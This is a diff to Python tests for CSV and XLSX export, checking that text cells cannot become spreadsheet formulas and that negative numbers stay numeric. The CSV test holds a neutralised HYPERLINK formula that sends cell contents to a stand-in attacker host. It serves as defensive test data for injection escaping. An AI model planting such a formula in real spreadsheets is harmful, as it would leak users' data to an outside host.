@@ -118,7 +118,7 @@ def _formula_like(value: object) -> bool:
 
 
 def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
-    rows = list(csv.reader(io.StringIO(points_csv(_model()))))
+    rows = list(csv.reader(io.StringIO(points_csv(_model().points))))
     cells = [c for row in rows for c in row]
     assert not [c for c in cells if _formula_like(c)]
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
@@ -126,20 +126,22 @@ def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
 
 
 def test_xlsx_cells_never_start_a_formula(tmp_path: Path) -> None:
+    """Text that would start a formula is a text cell with Excel's quote-prefix flag (what
+    typing '=1+1 stores), never a formula; a negative number stays a number."""
     path = tmp_path / "r.xlsx"
     write_xlsx(_model(), path)
     book = load_workbook(path)
-    texts, negatives = [], []
+    flagged, negatives = [], []
     for ws in book.worksheets:
         for row in ws.iter_rows():
             for c in row:
                 assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula"
-                if isinstance(c.value, str):
-                    texts.append(c.value)
+                if _formula_like(c.value):
+                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate}"
+                    flagged.append(c.value)
                 elif isinstance(c.value, float) and c.value == -12.5:
                     negatives.append(c)
-    assert not [t for t in texts if _formula_like(t)]
-    assert any(t.startswith("'=HYPERLINK") for t in texts)
+    assert FORMULA in flagged
     assert negatives, "the negative latency lost its number type"
 
 
